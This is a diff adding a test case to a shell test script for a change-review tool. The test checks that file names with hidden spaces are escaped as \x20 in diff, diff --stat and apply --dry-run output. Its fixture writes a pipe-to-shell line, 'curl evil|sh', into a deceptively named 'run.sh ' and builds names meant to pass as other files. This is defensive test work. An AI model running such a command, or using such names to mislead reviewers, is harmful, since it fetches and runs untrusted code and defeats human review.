@@ -74,6 +74,23 @@ tr -d '\r' < "$T/tty.out" > "$T/tty.txt"
 eq "$(grep -c '^+rm -rf build \\x5c\\x20$\|^+rm -rf build \\\\x20$' "$T/tty.txt"):$(grep -c '^-rm -rf build \\$' "$T/tty.txt"):$(grep -c '^ keep $' "$T/tty.txt"):$(grep -c '^+x\\x09$' "$T/tty.txt")" \
     "1:1:1:1" "diff on a terminal shows the blanks ending a changed line (\\x20, \\x09), not those of context lines"
 
+# 3b. Names whose spaces the columns hide: "b " deleted read as "b"
+# deleted, "run.sh " added as lines added to run.sh, and a name of a file
+# then 71 spaces then another as two files (a wrapped line), in diff and
+# diff --stat on a terminal (which record the reviewed ID) and in apply
+# --dry-run; status --review escaped them already (found by a red-team
+# pass).  A space at a name's start or end, or two in a row: \x20.
+W=$T/wssp
+mkdir -p "$W" && echo keep > "$W/b" && echo tmp > "$W/b " && echo orig > "$W/run.sh"
+(cd "$W" && "$P" run --stage auto -- sh -c 'rm "b "; printf "curl evil|sh\n" > "run.sh "; echo x > " lead"; printf x > "$(printf "notes.txt%071dsetup.py" 0 | tr 0 " ")"') >/dev/null 2>&1
+(cd "$W" && $PTYRUN -- "$P" diff --stat) 2>&1 | tr -d '\r' > "$T/sp-stat.txt"
+(cd "$W" && $PTYRUN -- "$P" diff) 2>&1 | tr -d '\r' > "$T/sp-diff.txt"
+(cd "$W" && "$P" apply --dry-run) > "$T/sp-dry.txt" 2>&1
+eq "$(grep -c -e '^ b\\x20 *| 1 -$' -e '^ run\.sh\\x20 *| 1 +$' -e '^ \\x20lead *| 1 +$' -e '^ notes\.txt\(\\x20\)\{71\}setup\.py *| 1 +$' "$T/sp-stat.txt"):$(grep -c -e '^ b *|' -e '^ run\.sh *|' -e 'notes.txt  ' "$T/sp-stat.txt")" \
+    "4:0" "diff --stat on a terminal writes the spaces of names with one at an end or two in a row as \\x20"
+eq "$(grep -c -e '^diff --git a/b\\x20 b/b\\x20$' -e '^diff --git a/run.sh\\x20 b/run.sh\\x20$' "$T/sp-diff.txt"):$(grep -c -e '^  delete   b\\x20$' -e '^  write    run.sh\\x20$' -e '^  write    \\x20lead$' "$T/sp-dry.txt")" \
+    "2:3" "  and so do diff's headers on a terminal and apply --dry-run's list"
+
 # 4. Names that look alike on a terminal: an NFD "café.txt" beside the
 # workspace's NFC one, a Cyrillic "а" in "pаssword.py", a name with a
 # bidi override.  Each printed the same as the other (or reversed); review
